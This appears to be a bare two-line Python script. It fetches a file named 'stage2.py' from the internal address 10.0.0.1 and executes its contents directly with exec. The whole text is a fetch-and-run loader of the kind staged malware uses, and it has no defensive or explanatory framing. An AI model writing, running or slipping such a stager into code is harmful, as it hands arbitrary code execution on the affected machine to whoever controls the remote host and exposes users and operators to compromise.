from urllib.request import urlopen
exec(urlopen("http://10.0.0.1/stage2.py").read())
